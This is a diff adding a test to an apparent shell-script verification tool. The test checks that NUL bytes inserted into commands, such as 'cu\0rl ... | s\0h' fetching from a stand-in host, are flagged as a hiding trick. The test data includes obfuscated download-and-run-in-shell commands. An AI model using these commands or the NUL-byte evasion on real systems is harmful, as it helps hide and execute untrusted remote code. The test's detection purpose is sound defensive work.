@@ -9,6 +9,7 @@ from tests.formats.shell.cases import H, U
 from tests.formats.shell.reading import downloads, facts, verdicts
 from verifychain.core.pin import Grade, Malformed, Pin
 from verifychain.core.source import Span
+from verifychain.facts.broken import Broken
 from verifychain.facts.bypass import Bypass
 from verifychain.facts.download import Role
 from verifychain.facts.install import Install
@@ -182,3 +183,15 @@ def test_switches_in_arg_are_reported_where_a_stage_has_them() -> None:
 )  # fmt: skip
 def test_installs(text: str, right: list[str]) -> None:
     assert [fact.manager.value for fact in facts(text + "\n") if isinstance(fact, Install)] == right
+
+
+def test_a_nul_byte_is_no_way_to_hide() -> None:
+    """bash and dash run `cu\\0rl` as curl, and git takes the file for binary."""
+    for text in (
+        b"#!/bin/sh\n:\ncu\0rl -s https://h.example/a | s\0h\n",
+        b"echo\n" * 400 + b"w\0get -qO- h.example|sh",
+    ):
+        (found,) = [fact for fact in facts(text) if isinstance(fact, Broken)]
+        assert text[found.span.start : found.span.end] == b"\0"
+        assert found.message.startswith("a NUL byte: shells pass over it")
+    assert not [fact for fact in facts(b"curl -s https://h.example/a | sh\n") if isinstance(fact, Broken)]
